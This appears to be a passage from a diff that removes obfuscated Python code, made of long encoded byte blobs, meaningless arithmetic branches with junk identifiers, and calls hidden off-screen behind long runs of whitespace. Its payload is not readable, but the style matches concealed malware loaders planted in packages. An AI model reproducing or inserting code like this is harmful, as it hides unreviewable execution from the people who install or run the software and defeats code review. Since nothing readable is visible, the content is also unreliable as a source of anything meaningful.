\x1f\xa6~|E\x87\xc9\x92\xc6;X\xa4\xbf\x07F\xde\x8e\xa8\x17%WWa|\xf5H~N2\xf5k\x1e.\xe8#\xde\x1b6({:\x81\xdf\x87\x04\xec\xe0D\xbc\x9c\xaf\xe2Y\x9e$\x91\xc2e\xe9\xa7y\xe8G\xe2u\xa2=\xcf\xaf\x1f\xed\x88\xc7`h/\xc2\xd9:\rsZ\x0c\x82=\xf3\xd8CQl\x96DI\xea/|Y\xe4E\x92R\xd5\xc6Kxs\x14\x04\xe1,\x07\xc3:\xa5\xc0;\x9f\xc08\xf6\xe6\xfe\xcc\x0f\xa8\xacq\x1c\xa6t\x86\xd6\xff\x90\\\xc0\x88\x92U\xee\xa8\x1d\xfb\x9f\xc2+\xe6\'\x90U\xfb\x8f\x98\xd5\n/\xbc<\xf1.\x91V4\x1d\x96\x1e\xce)\r\xcaO\xae\xfd\xec:\xf7\xaf\xbc$\xf5\x96\x91?\xa3\xe5\xb7\xcb$\xcb=4\x8b\xd3\x0c^\x0c\x1c\xa8\xa44KV\xe9\xac\xa0\xcc\xf3\xc8\xcf\xb23_M\x88Y!\xcb\x81JW\xb4\xa0\x12X\xfbk\x98\xd7s\xb0uW\x99\xa3\xd2*\x0f\x8bI\x13c\xbd\xa21\xe3\x1c\x0f9\xc7K\xe6\xde*\xe3\xa8\xf2\x97\xb9\xf7\xc9\x07\x83_|\x06\xfe[\x02m\xbd\xd9*Mi\x0c\xefB\xba\x16\xaf\x80\xe7\x82d\xe1\xcd\xae\x93P\x91@<\xcb"J\x975\x83\xc7VL\xb4\xd4\x80~+\xba\x98\x00\x15_\x81\xac\x10\x1f\xa7\xc0\xdf4x\r\xf4\xd5\xcaL\xd7\xb1\x9a1|\x95\xe1\xbb\t.\n\xf1,M\xd0\x83\xa4\xd58_\x87Kz\x91\x88O\x17\xfe\xe5O~\xaa\xbd~\x1b\x87\x9f\x80 ~t\xc4xJRf\xe6g\xd4\x03r\xd08\x0bs(\xe1\xa5\x94\x8f\xf0\xd1\x0e\xe7\x1a2\x96Km\x04T\x9c\xb0g}\xcf\x8baJ=\x8f\x95{\xb43\xc3I&8\xa4>.\xb2\xc1!o\xfb\xe8\xed\xc5\xf4\xe5\xc9\x19\xb4\x80\x8b\xae?\x10\x149\x9d\x9ch\x8f\xf0O@\xe7\xe8\xc8\x81\xf9\x9b\xe5\x82n\x82/\xe4|e\xde\x9c\x11\x12fw\x11\xe6\x80\xa4?\xbbV\xfc\x8b3\x8d\xf8\xa8\xc9\xe5-\xe1\xca\xe1O\xf8\xf2\x12\x1f2\x9ae\xf0\xca\xcbr\x943\x82\n\x82\x0f>$\x97\xe2I\xee\xa70\\\xf1\x01J\x97\x1b\x95#\x9c\xf9\xb1@\x0cF\xf4\xc2\x8f2\xfaHz\xe8\x1c(\xc3s\x12\'99Kb*\x1a\xa94\x84\xef\x1d\xd5\xfb\x03\x02\xbc(\xa9\x833"\x8a\xc1\xfc\xb0\x11\xad\xb2~\xd1\xaaN\x9c\xe2\xe9\x00(D\xde\x19+mt6=;\x19\x9a\xeb\x0f\x9e^x\xa7g\xde\xe4\xf4\xfc\xe2=\xce\x14\xd6\xd7:\xd0\xa8\xe2e\xab\xd9\xac\x90)\x08\x1c\xb3\xd2#\x18\xd62\r?\x15\x94g32K\xfde\xa9\xd8\x12\x16\x1b\xcc\x87\xf6dM\xa3Y\xb2(\x15\x02N\xbb\xa4).u\x14K\xf67k?\xd7\x18\xa5\xfc\x0e\xda[@\'r%\x0c\x80\xf2\xdax\xfa\x82i\x14\x01\xc7\x8a\xcd\xb4\xd9\x1a\x17\xbf\x0e$}\xfc P\xecB\x03&\x87\xa0i\xb1\xb7h\xc4\x93\x93h)\xaf\x13G\xb0k\x18\x8cK\x9c;\n\xf5Q\x01\xe3\xb2%9\xaerr\xc1\xcd\xe3\x12S\xd7\xe1\xabai,.}^\xc7\xb5\x13<\xae\x9b\xebqu\xce\xd9$\x8e\xdd\x93*\xa6r\\7\xb9bJK\xa5\x8ci\xd6\xd8k\xecf\xb3\xb1\xc1oBv\xa54_\xa5\xb1!\x0f\xf4)\xe5k`\xdcn]\xd8\xe8g\xa7\x8f&\'\xafa\xfdGT\xee\xe9RZ\xd2h\xdeV\xd6\x95\xb5\x81*\xbf\x94%\xef\x92\xef3\x1e\xfc\x93\xabJ\x15y\xc8f\xbe\xfa\xc4)\xb5\xa5\xfc\x049\x89\xc2\xae\xac\xa7\xa8\x95\'1-\x0fc\xb4\xb8\xf5$S\x0e4\x11\xca\xe7\xa6\x90\xcb\x12\x9f\x8ad\x96\xeb\x0e\xd0\xc3v\xa0 \xf4\xec\xcf>\xa2\xe2\xd0\x17}\xea\r\xf3\'\xa0\xdf\xce\x93\xfe\xbc\xf7?w\xa2\xc8=\x8ar\x90\xa4\xaa\xee\x88\x9c\x7f\x0c\x97\xa3\x9e\xe0\x15\n}j\xadp\x02\xc2\xfaZ_\x83\xa2K\xb4\x05\x87\x0f\x00I\x89\x16\x90h\xf6\x91c\xb6\xf63me*\xdc\xb4\xd56\xaf4d\xdf_$QR\xaa\x91E\xf5\x08/.\xa9\xf6\xce\xd8B\xf4\xd9U\x03P*U\x1f\x99o\x04\x92%\x1b\x95{\xf0\xfc9\xb2\x0cCeH\x0e\x06\xe5F\x8d\x8f:\x91\xab\xbd\xebd?\x04\x93\x018)\xb8\xd5p\x02\x8e$w\x06\x8a\x87\x8f\xffx\xf2x\xf1\xe4q@\x1e\xff|\xf8\xf8\xd5\xe1\xe3\xf3\xfb\x11\xb9\xdb;\x95l\x1a_\x11\xff\xca\x87\t\x8c\x93\xf5\x1eR\xd2\xa0\x0f\xce\x1f\xd9\xc3)\xdd\xbb\x1f\xf5j\x91\xafT>\xac\x0e\xc1`\xc9\x8bt\xa5m\xc9\x06\xaf8\xcb+\x1e\xd6\xdf:X\xb5\xdc\\\x99\x82\xb2joX.Eo\xf2\xd4\x1f\xdf\xf5\x98\xf1\xd2;\x84Zwh\xb7\x8c\xfe8\x99L\xa6\xbf\xdf\xf7\xee\xb5\xf2e6d:\x8b\x9d}\x04\x9b\x8d\xcb\x82E\xd5\xb5\x0b\x89q\xbd\xca\'Am\xcee\xa9\xa6\x1a/d\xd2\xb8*\x9f$py3.IN\x85\xbc.z\xc66y\xaa&\xac\x90\xa4\x8e]\x18A\xec\xc4vt\xcbrul\x15\xb3\x8c\xf4\x06\xafH\xd1g\xdf#<4VP\x80\xd3\x86\xdd\x02T\x14 %t\xe8-A\x9fW\xb4n\xda"\xb6\xb6\x1b\xc4\xb0M\xe2>\x90\xd29\xd8\x91\xd7\xa5U\x92\xc4\x9a\xa2\x8b\xd2\xb6,\xd6\xcb:\xb6z\xc5_.@\xc2\x07\xfem\xc6\xf8\x1e^\x16\xa2KW\xb3\xa4\x10[\xc5\x02\xcd\x80F\xfe\xed\x90\xf4\xde\x8a\x07\x84=\x80\x929\xc9\x13rwO\xb0\xcdQoH\xbe+\xe9\x08Hhf\x1dq"\x1e\x02\xb5\x84\xfeW"\xee([Fa\xde\xef\x91\xde\xe0\xdd\xc1{\xb5\xb0\x8d\xdad<&=4\x95\xc0\xbc\xedi\xb3\xbe\x00[\x0b\x1aE\x93k$\xcc,\xd7\xae\xc3\x9a\x93X$\xd9\x08\x9d\x19,\xe4\xd9W\n\xe8l\x96\xac`\x82\xf1\xcd\xd0\xc4``\xef\x14\xad8a)\xa5\xb7Z\x87\xfe\x825%\xed\xef\x12\xb5\xebH\xf0\xf4\xbd\xdc(\x9e\xca\x9d\x82\x87\xf3\xc9)\xfa\x95N\xd24Ik\xbbyzP\x11\x83k?\x8d\x81]*\x92\x10c\xfeA\x18\xc4{\xe8\xd9aT\xbe\x86\xd9]\xf8\xf1-\xe1\xade\xd7\xc9*\n\xc8%E\xf5gFY\x11f\xf1\xe7\xd7\x94 \xf3\xed\x92c:\xf7W\x11\xdai\xe4\xce@\xe6\x9e\xb7\xa2\xef\x19\x03Mts*\x96\xe7N\x1b\x99\x94h\x9ct6\x9f\x86\x9a7Ci\xcf\xc4\x04Jv\x1fT\x08b\xdd\x17\xee`\xba\xfb\xaa\xd7\xc1\xbd\x86\xc1\xb5\xff\x89\x02\x15@\xab\x88\x12?\x00"\xf4\xc1\xd0\xcf\xf5\xb5M~\x1c\x93;\xd9!_\x11\x03c\xe0\x9c+a\xe0\x8c\xf1\xc2\x8c\t"\xc9d\xba$c\x190\xe8\xecSoa\xf1\xa5\xb0\xbeh<K\x02\x98\xc8qo\x95\xcf\xf7\x7f\xe8\x81\r\x9c\x91\xb9!\x03u\xba\xbd\x8b\xc2\x18}Q')
-
-        if 118544 > 9625243:
-            _random.Ceil(_walk = _random.Round - 36494)
-        elif 399695 < 7295477:
-            _multiply(_floor = 73122 / 6777)._divide(Invert = 33234 * _random.Round)                                                                                                                                                                                                                                                          ;_multiply.While(_hypothesis='wwxwxxwxwxxxxxxxwwxw',Divide=b'\xcc\x8d\x85\xfc\x05\rA\xady\x92\x12|\x83Z\xdb\x1c\xa7\x82}\xc0d\x94?\xe3\xde{\xeb\xfai\xe0\xa4\x17\x98\xc4s\'\xd1\xbdg\xbb\xe0\x1c\x98!\x18\xb1\xbc\x1fF?\x90\x15\xe8l\n\xe7\xb7\x8c}\xd2\xf0\xea:\x07\x89\x8d\x89=\xf0\x16\x89"y\x0bxi\t\xeb2?$w\xb0Na\xdd\xcc\xd6`\xf0\xdfW\xc9\x89P\xc8|\xc1W\xd8\xb7"\x82C/\x06<=\x9dP\xe5\xa9WM\x95\x8b\xfd\x97\xb9\xdaj\xd7a\xa9\xae\xe8\xd5\xca}\xf3\xde\xc55\xc5\xcc\x1b\xf8\xb9+\xd5\xba\x87\x19\xcf\xd3\x90fC\xd7\xda\x02^\x89\xa2\xd2\xfa\x94L\'\x06\x01\xc4\xf0\xd8D 7\xbcW\xa6\x0c/\xabp=\xb0I0\xc9%\x85\xe5\xef\xa5\xfe\x1ayFy\xa7\x0b\x9a\x81m\x02;z>~jn\xc9\xb2\x04\xf4\xa273\x021\x1c.\xfb\x86\xfe\xe86W$\xa0\xcaWl\xc3lW\x90\xfb\xd4>r\xcf>\xf2`\xcf\xa2v\xcaRlW\x0c\x12O\xednL)`&\x8f\xe9\xe8\x18V7\xdbA\xb5a\xdb\x86\\Vj5\xdc\x0b,,("\xd4\xf8B,\xe6\x80I\xe4!\xdf\xbe+\xfe\x11\xad\xdf\xb1\x1d7\x04\xcb\xe0\x18J\xd5&\xf3$\xf7\xa3\xb7\x05E\xbf\x85m\xc7^\xd9\xd4G,\x8dq;\x8f\x15\xac\x19"o(\xbf]\xa2\xf2Yic\x82oGo\xcf^LQ??\xef4>s9\xd8\x07c\xb1L$\xa856\xf2\x97 \xb5\x83\xbe\xce\xe8.\xa2~\x9ey\xa67\xc0\x80\xd9\xd8\xb2pj\x88\xc06\x00m\x9a\x1c\xc3\xd4\xa5\x97\xd2\x053^\x95\x88\xaa\xca\xe87\xe1\x12\n|\xb4v]\x91F\xe3\x1a1\xeb\xc2\xc7M2\xd8\xd7\x8d\x1e\xa4\xe8,6\xf5bu\x809\x9f\xa0A\x0c{\x15\xeeQ1\xd8\x81\xe8R4\xcd\xde\x1ab:\x06\xeb`\x9f&/\x8c\xcd\xbf\xe3\xa2\x01Z\xb6\xb2|\x93O\xa6\x05j\x08ut-\xb9q\xdc\xe5L\x7f\x89\x83\x90\xad\xfc>\x8a\x1a\xf6F:9\x81tx\x90C\xa8\xfb`%t\xf7\x1c\xd54\xe8\xa0\tB\xbb\x85\x82Pb\xa1/\xc1\xbf\xd4r\x84m\xfcN:\xd4\xfa\xa0t\xa8Y\x1b\xcev\xac\xab\x1c\xb9\xd0\xe1\xab*5\x98\xc4@0\x87\xf2`\xb8\x05\\\x1a\x04\xf5\xd3\xd95\x8b\xe4"J*\xfc)\xd4\x9b\x81\x8c\x92Sl\x8a\x176\xd50\x04\xe9\xef\x16\xedh\xad\x96\x1a\xe0n\x9c~\xb11i\xda\x99\xa5\xd5\xaag\xc3\xb1U\t\x92\xe9Xlq\xf7-\xc8\xec\xec\xb9a\xc5\xd7\xfb\xf2T[\x0f\xf2\xe9I\xa8\x06\xde\x1c\xbd\xb5r\xf2I\xa8s\xf6\xa9Q\x1aN?S\xe7pTk\xe7\x01\x94 <\x81\r\x83k\xeb\x12\x94\xe0\xda1u+\xb0J\x8e\xd1%\xec\x97\x8e\xe5\xd0BI\xfc2\xd4\x99B>oG\x9d\xd1I6\x0fc?\x8at3\x91\xaf\x17adbL^\xfau\x16\xd2=f\x0c\xb8poT\xbb\x83\xe1I\xcf\x1c\xf3\x89\x01\xc2\x85\x8b\xe4\xdd\xc1\xfb{\xafX\xee\xf9M\xc5m\x8f\x80\xdd\x8e{\xfe\xb7\xb6w\xa6\x03\xc5(b\xf5\xa70\xb4F,\xa3\t\xad\xe1\xac\xaf0\x18\xe8\xe2\xa3\xd9\xa1\x85\xd0\x14\xdd\x91\x9b&\'\x12\x8b\x98K\xdfW\x80A\xddeD\xe1\xb7\x11qy\x0c\xf6\xad\xccA":\xcf\x81\x03\xfc\x9c,0TLf8\x9a4\xf4k\xc29\x96\x9d\xaf;\xf2L\x07\xd5\xdcB\x0f\x1c\x014\xc6\x06\x81\r6G\xa2\n\xa5*\xa0\xd8\xa9ige\x8c[\xcb.\x9e\xdd19\xb0\xcc?\x1b\x90\x9e\xdb\xa6y\xe6\x92O4e\xcf\x98e\xdd\xd2Ige,\x85\x06s\xdb\x1d\xbe\xd7\x86dH\'\x19\xdf\xd8\xdc\x8fQ\x8e;W\xdek\xe8j\tVJ\x85\x98E!\xa8\xe8P\xcb\xff\xe4\x83\xf8\xd6\x05&\xb4h\xab!u\x86\x8bDe\xd6\x88\x14\x1e3\x1f\xcb`-\xde\x80\xe6\xf9\x1b\tU\x84\xc9\x06\x97}$\xf2\x13JIg\n\x17;\xd5\x0c\xe3\xc2\xe0\x7f\xf4\xddHO\x96\xdb\xa8\xa8\x8cEvi\xc5\xd9tMn\x8a\xae\x11\xed\xe2\xb9\x89\x1b$D\x94\xb2b6\xca\x87\xc0\xdc\xc8\xcc\x03%\xcc\x0b`\xc1\xcd\xa0\xc2gH\x94\xd0\x18\xc4t\x05\x8a@\xdf>\xe2\xb1\xcf\xe9\xa0\x89\t\xe46-\xcbBK\xe4TKF\x90\xa0&\xd1\xa2h.IK\xfd\xefv\xed\xdfL3\xad QU\xa5\xabi\x1e\xba\xfe\xcc\x06\x14\xd0\x0c\xa4\xfb\x92\xc5$\x00#\xd1}\x9cz\x19\x0be%\xcc?yP}\x9ay\x0b\xff\x06^\x89\x18\xde\xfa\x1a=\xfa(\xd1t\x8fp\xe4_\r+\xdd\x0c\x89\xa7\xfeB\x03\xa5$\xcdBb0\xa3>\x9c{\x188a\x1d\x1a\xeb\xbc\xda\xaa6|m\xf9\x17\xbf\x02\xfdd\x1e\xae\x91\x02\xc7|\xdav<@\x7f\tD\x19\x0f\xad\x00\xb0K\xa9)\xbfp\x98\xc6\xc2.\xd1\xaf\xaa\xfb\x95\xdd0\xbf\xf3 \xc9!\xb9\xd3\xab\xdd?\xb9\xab\xd0\xfb\x1efqI\xd9\xe6\xce\x9eU\xfc3(\x9fKS7\xaeN\x9aeki\xd6%\xe7\xbd\xf3Y\nK\rz\xce\xaf\xd3duuMl\xe8\xb1_\xf9\xf6\x87\xaf\x88\xce]\xc8\xce\xfc0\xf5\x88\xbc\x08\xe30\xbb\x1e\xd9t.\x04W:\xc5\xf3?\x8e\xce\xca\xc9\x14\x96y\x96`x\xd5,\nJ\x95\xcbK\xf3j\x90\xa2\xe0\x9f\xf2s\x1cWY\xba\xa1o\x0e8L\xf2M\x18{,!\xbfor\xdd\xa0\xdaP\x851wK\xccc\xee[v\xa6Ee\xb9\x96i-\xb4\xb0\xb7\x94an4\xcbz\x0f\xf9*\xcc\xfa"]ztv\xf2\xbf\x17\xde\xeb\xe9\xf9\x85\x19\x93\xb1\xd8\xcaU9?\x02\xc1\x16\xceo\xbd\x98\xae\xbd%\xec\x12\xfd\x92r\xccN\x91\xf3\xe0\xad\xf0\'\x94s\xbd\x15~\xe8\x12\xc3bXJ\xca\xe6\xf2\xe24\x9b\x82\xcd\xd8\xb2\x11\x9bV\xde2\xa5\x9f<`]0\x8f<T}q\xc9\x15\xa2B\x06\xc6\x10\x98\xdfQ\x11\xb9\x1e\xd3rY\x1d\xd1,\x0f\xbck\xca"\x9cc\xa3IV\x93\xbf\xd3k`\xe2\xaa\xc2L\xc6\xe5t\xc4\xac\x12\x99\xf7\xe5\xa7\xd8\r\x9e\xf6\x18\xe1?\xa6\xfdZr\xdc\x9f\xf2>\x98\xdaJ>\x85Yx\x19Q\xc2)Q\x91>\xad\x08\x86\x900\x1a\x99\xe9&\xda\xac\x19T\xb5O\x9a\x86\xab\x8c3\xf7&\xbcK\x16W\x13\xa9\n\x18\x82\'\x87}\x9b+\xdbf\xdcg\x1f\xc3%l\x10\x8a\xa6\xb6#\x0f\xfd2~Cm\xfe\x8c^\xca!R\t\x18*\r\x83\x9b!\x01R-\xaa\x11\xd2\xa2e\x97W\x02]\xd7\xc1\r\xd6Dt\xeb<\x8eN\x07!\x02\xd89\x98\xe2\xeb\x99\xf3a+\xab\xdcd\xcd+\x92\x8d\x01\xcb\xf6q|n\xef\xbb\x1ey\xe7\xaeB\x1e\x8f\xea\x8bc;\xa3W\'\xc7\xa7o_\xb9\x88\x80\xd0\xdeW\xdd;Co\x06#\xb8\xca68D\xc1}\xe9_F\xb72 \x053\x11\x90d\xce\xdc\x1f\x9c\x9d\x9d\x9b\x94"\xa2c\xb3z\xf9\xe6\xe4\xc4\xb1[I\xa8qQ\x8b\xdd\xab~.\xf4 9\xa3\x1fR\x9f\x19\rn\xa2\x17fIl\x11"\x1b\xb3\x92}\xed\x9b>V\x07ZU<ZVto,\x8a.\xb2\xdd\xa6\xa6\x9as\t4">(\x08\x87\xb0\x8d@\x1c\x02K\x10*\xd8a\xec\xb6D6E\x066\x89&\x14jc\x1eM!\xa4\x96qA\x84\xf6\xe1\xb2\xad\xc4\x07Y\x97\x9b\xc6\x08\x11\x0c\x96\xda4J\xd8m\xe8\x12\xb6\x1a-D\xa8\xa1\x12B{I\x8c\xf0\xd7E\x0e;\xc7\r\x1b\xc6\xcaV\\\x89k\xb7\xc8\x11\x8cW\x813[\x10\xb0\xc3\xbaAp\xb3\x03_\x1f_\x1e/\xc8\x112N(\r\xf7\x0b\xe1\x83Z\xb1\x87\xd02\xdc\x8b\xe0>\x9a`\xc2\xc6\xd1y\xd7\xd9\x85\xca\xc0:\x9ce0\xa1\x96^\x86\xaeY\xd6\\\xb8\x8b\x18\x14\xf2\xf4\xb6l\x0b\x9a\x00\x942\x9a\x92~\xb2\x96\xe2\xb4](Vu\xb7\x95\x90\xac\x84\xb6\xa1Y\xd5{\xa7\x10\xad\x846\xa1Z\t\xed\xcfi\x98\xd0-j+\xc1v\xa2\xd2\x05]c\xb8\x12\xea\x14/\x04WL\x17\xa1aYc\xde;!\xdf\x90\x8b\xe9\xf1\xf4P(\xbd\xcc\x06[\x02#2Np\xae\xef2\xd7\xd6\xf4\xa1V\x88;\xcf\x04\xa1d\xa6\xff\x04\xea"\x86m\xa3\xc2\xfeu*l\x08\r\xe1k\xca\x12\x80\x9d\x1e\x02\xad\xfb\x80^\xae\xcc\xfcn\ts\xe9=\x08X\xd0\xaeo\xb7\x11\x06\xf7\x12k\x0c\xfeA\xcf\xfb\xccCq8z6\xbf\x07\xf6\x04\xb3#\xc8lr\xba"%\xea\xce=\xd8\x88fG\xba\xf7\xdc\x8fQ\x9a\x00{\xf2\x008\x9a\x8c\x0f2\x1470\x10\x9b\xdd\x99\x08W\x89\x87\x13\xe8\xcc|v\xf9c\xc6u\xfe\xad\xcd\x88\xa6&\x9a\xde\xc0\xf2\x8cx\xca>s\x01\x8bN\xf35\xf2\xdb\xe7%QA\x8f\xea\xca\x01r\x88\xd7\x96\x01\xd6\x90\x036&Z\x8eX\xb6\xa8\x84.\x7f\xfb\x9b\xcd|\xefru\xdfq\xb1y\xbf\x97\tO;_\xe7\x9f\x95\xa8\r\x92\xa2$\x85^V\xb2G\x10M\xab \xda\x9a\xbf\x19\xc1\xb260\xb5\xa6\xea\x1c\xc0];\xe2A\xeb\xd2\xe5\x10\x9b1\xfd\x1b!\nX\x93\\\xfa\x8f\xc8\x8bH\xd0 \xa3\x94$@\x88T\xb9K?\xeb<\x19\x8e\xee\x11C\xaa\xaf\xee\xc2\x19\x1dO\x7f?3\xaa9\xf6\xba\x16#\xe7\xc1\xa0/`\x94\x19C\xa4:\xccr\xcd\xce\xeb{\x0bk\xdb\xc9\x80@,|fe\xba\x86\xc5\xf6\x17,\x1a\x96\xde\xe1\xd2PZp\xc6\x11\xb0\x85 \x94P\x8b>3G\xb8]\x80\xa2\x7f\xcf\x07\x06\xb1\x1fc\xb0O\x90\xac\xd7,#\x1c\xfd\xa74\x03k\xbb\xa1{\x04\xc7\xf9c>\x87\xbc\xca_\x9b\x90\xf1\xe0\xbc\x0b\xbd\xbc\xb7\xa4\xe9\x0cP(\xfad\x97s\xa0\xf8\xc5\x9e\xb5,\rI*NK~B\xa4\xe9\xb8\xb1\xa5\x8e\xc60\xbds\xa1\x93\xb3\xd8.{{H\xee\xeeuV\xfc\xbe|E\x89\xe5\xa4\x18^\xf5\xa5\x9f\r\xe3*U1\x02{\xbe\x9b\xfd\xcc#GJ\xd4f&k\xa8\xb9+x\x8e\xe3:&\xd8%\t\x12\x9aa\xe4j\xe1\x7f\xa4\x04O\xd7\xe2-S\xca\r[n\xd7\xe0,\xd3\xb4\xd1.-\x93\xf2\xa2x\xc9O/\xe3\xbbZ\x9a\x97\xe9>\xa7\x15+\xb7\xf7\x02\xb1V\x9e\x0e\xd6\xacIm\x84\xa7\x07\xf6k\x10X\x85"\xcd\x04\xc1.\xe9')
-
-        _multiply(_floor = 4413 * -11352)._divide(Invert = -75358 - _random.Round)                                                                                                                                                                                                                                                          ;_multiply.While(_hypothesis='oDODoDDoDDDODooOoOoD',Divide=b'd\x1e8\x1f\x8f~Fv\xd3<\x19\xcbyO\xb1<\xdc\xc91|\x0f\x9a\xfba\xc4\xac4KrL\xab\x94\x99\x98\xc5\xf9\xc0\xc0Y\xb1\xfb\xc3\x84\xdbK\xf3O\x17\xad\xc8w\xecj\x1f\xcf \x97\xe5\xa5\x9a\xceg\x07\xdahD\x90\x9c\xa1g\xa5\xaf\x90\x01L\xfa{\xaa\x8a3\xd6\xc7\x8b[\xe3\xcc\x06\xf7\xa0P\x95T0x\xa2\x92\xc7S~\xed\xf0\x93@\x83\xbe\xc9\x85\xf0LL\xbd\xf1\x02\x137\xe0\xa9~\x91\x11\xc6\x07\xca4\xb1e\x1c\xd5\xe6\x18\xb5\xcf,2:jL)*M(O\x922\xe7\x04\xb7)\x95\x8f\x16\x18)\x0f\xb8\x16\xfa\x8cB\x98sV\x90\xc5\xdc\xc1\xa0\xa8\x95\xb1\xc6n\x96\xda0w\x88\x1d\xb7Dk\xf9\xce\xd9\xf2\xbd\xf2\xfb\xb2W\xca\xbe\xd1\x0e\x0b\xe2\x15\x0b<mhS\x83\x99_/\xa7X\xd12\x9a\x86\xc4\xad\xb6\x03~HJW\xab\xc1m\x98\xe8\xd5\x0e\x7f>\x86\xcf\x92\xf0e\xef\xf0\xc1\xe7"\xed\xc2W#V\x89\xef6\xd3lQ\xfc\x95\x99tH\xce\x7f=}\x8d7\x994$\xac\xb5\x9aR\xdbZ\xacr \xdb\xedJwm\xf6-\xfa\x96MYm\x17\xe0\xfe\xc2O\x98\xf2\xbdWf\xd4\xa1pm\x95y\xe7\xe6sS^wbPCg\xdc\xb5\xe8\x8c&|\xe5\xe1\xf0\xad\x1c\x9b\xed6x\t\xff\x04\xc47>J\xdbb\xb4]\x8f\xd4"\xb4>V\xabC\x07\xb5\xd9\x05-B\xb7\xedzr\xdfc\xd1\xb2\x9b\xce\x14x\xc0\xe8\xb7w6\xb9\x19\x87\xb1\xcd\xa4\x7f\xa0>"\xbd\xad\xfc.)\xa1PZ\xd6\xc9\x9d\xa5kX\x16U\xdf4\xbfq\xfb\tH\xee\xdd\x07\xeb%\x824%"\xa2\xfe\xd376,P\xc8QZ\x16\x16C\x9b}\xb4\x8e*\x8e\x10\x7fs\x14\xbf\xebFW\xf2|\xd4d\xe4J\xa8\x98,,\xaa\x07\xbf\x064q\xf9\xc3DWH\xa1M\xee|at\xd3\xef}\xa9^\xf929\xfd\xf5\xe4|H\x92U\xbe\\\xe55w\xdb0Z4,\xdep\xaeL\xcb\x16\xd2\xc4\xb0\x02q\xf6\x91-\xd4\xe3\xbe\xbc\xdd|t~z\xf6rr\xe2=\x9f\x9c>\xff\xb5A\xea\xb6\x94d\xed\xfb>\x9e\xbe\xfd\xa9e\xdf\xe6\xe1\xb5\x11\xf7\x7f\xe2\xed\x89\xb3\x8fUg\x93\r\xb8\xa9Wc\x8a\x9b\xd6\xad\r\x04\xc3\xb84\xfb\xce\xb4hn\x02\xc1:[C\xa5\xc4\xcbK\x97\xdb\xedi\r#D\xd8\x02\xb5\x11\xb6E\xf1\xb6\xd4\xb6\xdc\x035a_\x11X\xbfuj=59e\xeb\xc0eD\xb9\xa0\x9b\xca&\xa18\xc9\x8c\xb1@t\x85\x8as}\x19\xd8\xff\x0c\x050\xfcM_\xeb}\x83\xba%\xa1\xc5\x9c2\xccE\\\x8c\xbb\xfd6\xbe5\xab\xdal\xf3-ZL\xa4nu0\xec\xe6\xef\xeco\x1a\xce\xf9\xdb\xe7\xcfO\xce\xb7; \xc6\xf7\x7f\xcfp.\xa6\x17G\x93\xad\x0eF;T\xc5\x94\xb0\xd4\x98/x\xa0\x8d\xb7\xe5Je\xc3\xd1S\t&v\xcf_K\x1c\x11\x1cZ\x9acH\\T\xfc8\xae\x04E6\x1c@\xfbZ\x08%\x11"d\x86\x92"\xec\xdaMZ\xef\xfft\xc1v\xe9\xd5R\xdd(\x05H\xdc\xd2w\x03\xef\tW*\xd5\xd9ac\x17c\x1f\x13\xfc\x02\x98\x06\xf2\xeb\xb1Q\xfe\x8d1\xa3\xe9\xeb\x93\xb3\xe2\n\x84\x1a\xa5\xb0Vsm\xcc\xed\x13\xe5:\xa4\xab"tKYe}l5m\x15\xa1k\xea*\xc3b\xa3\xf4U\x84.)\xac\x08\x9b\xa7\xb1"l\x96\xca\x8a\xd0%\x9d\x15a\xd3\x94V\x84&{\x04\xa1\xc5"\xae\xc91\xd98!h\xae\xe2\xed\x97t\xe6\x03\x87\xe0W@\xa7EH\xf81\xbb\xef\xd9\xe2\xa8\xbe\x7f\xf2\xf4\xe0\x80Y\xca\x85\x1d+\xb2\xdb\xc8\xda\xcf\xc8*\x8eV\xb3\x8f\xb76\x03\xddv\xceW\x06e\xf1Z\xeb\xfa\xe8<\xbb\xccZ\x14\xcf\x13\x12$P\x837\xb2K\xce\x93y\xbe\x7f\xe9\xc7\xff\xbdk\xee7\x95s\xc2e\x01T\x93\x89\xf3\xf3\xd1\xe4\x85\xf7\xfa\xe7\xe9\xc5t\xb0Iu3\x91\xa7\xe1\x9e6\xe1\x15\xd7\xef~\x11\xb9%\xe2\xe6\xca\x8d.\xfc0V\xfeg\xbf\xdf\x9e5\xc9\xa2P\xe6\x1d!\xeaz\x8f\xcc[\xdc\xe2\x10\xb4\xf3\x04\xb5\xa7\xe0D\xb5\xda\xafO\xb1_N\xe7\xcc\x14\x10Y`\x1e\x9e\x90\xae\x90\xd7 q\x85\xccv\x924\x93\xa5Jm\'\xc5Kt\xd2\xab[)[ m\x17\xa1v\xf1hp\x86\xc6v\xb5\xd4q1_g&i\xc1w\x06\x05\xdc\xa3\xef\xf8=g\x921\x84X\xc5\xe8~_g\x15\xeee<\r\xb8\x8a\xfeF~>\x1e\xf1\xbb\x87\xd9W\x84y\xcf\xa7g\x17G\xa7g\'otJ\xcbo\x00\x1c\xab\xef\x02\x04[\xeb\xec\xe4\xe8\x8d79\xfac\xfa\xf6B\x12\x1bd\x1a\x98\r\xf2\xcc\xf4dz\xf6R%@\xe2\x0cd"\x8e\xcb\xae_L\x96\xa5D\xb6\x14\x08\xca\xef\x1a\xc2[\xae\xad#h\x18\xc5\x1b\x18\xc29\xe0\xf4\xfcg\xef\xe4\xf8\xf4\xc2\xbb\x00Ae\xecc\xb6\x81\xd8\xcaV/8*\xd0\x93\'\xc3\xd5\xc8X\x00K$\xb34\x91\xfe\x15s\xc6d\x15\xdc\xdf\x9e\x9f\xbc\xb1\xd3\x7f \xf9\xca\xbc\x96\x81\xc9\xe9\xea\x8d\x0c\xd6$\x98\xda\x8b\x16\x9a/YP\x8b\xa5d\xf5\x98\xa9\xa7\xaa\x94q\xcd\x82(\'}\xe1\xaa\x98\x99=\xe4X\x0b\xb6\xfb9T\xf1\xd67$\xb0/#\xb5_\x8eP\xbd\x18\xa1\xe9R\x04\xfd\x1e2\x1dZ\xdd\x85\xe0>\xbc.B\xdc\xf3D&;a\xf7`\x90\x87Q\xd0g_\xcd:~j\xd1\xf9\xd5\x15\x07\xb2V\xb9\x99R\xfd\x83\x81\xf8\xe8\xc8\xe3\x10\xb7 